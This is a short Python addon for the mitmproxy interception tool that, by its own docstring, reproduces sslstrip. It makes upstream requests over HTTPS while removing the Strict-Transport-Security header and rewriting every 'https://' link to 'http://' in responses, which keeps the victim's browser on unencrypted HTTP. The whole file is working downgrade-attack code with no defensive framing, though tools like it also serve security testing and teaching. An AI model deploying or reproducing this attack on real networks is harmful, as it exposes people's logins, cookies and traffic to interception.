"""mitmproxy addon: fetches over https what was asked for over http, as sslstrip does."""

from mitmproxy import http


def request(flow: http.HTTPFlow) -> None:
    flow.request.host = flow.request.pretty_host  # the name, for SNI
    flow.request.scheme = "https"
    flow.request.port = 443


def response(flow: http.HTTPFlow) -> None:
    flow.response.headers.pop("Strict-Transport-Security", None)
    flow.response.text = flow.response.text.replace("https://", "http://")
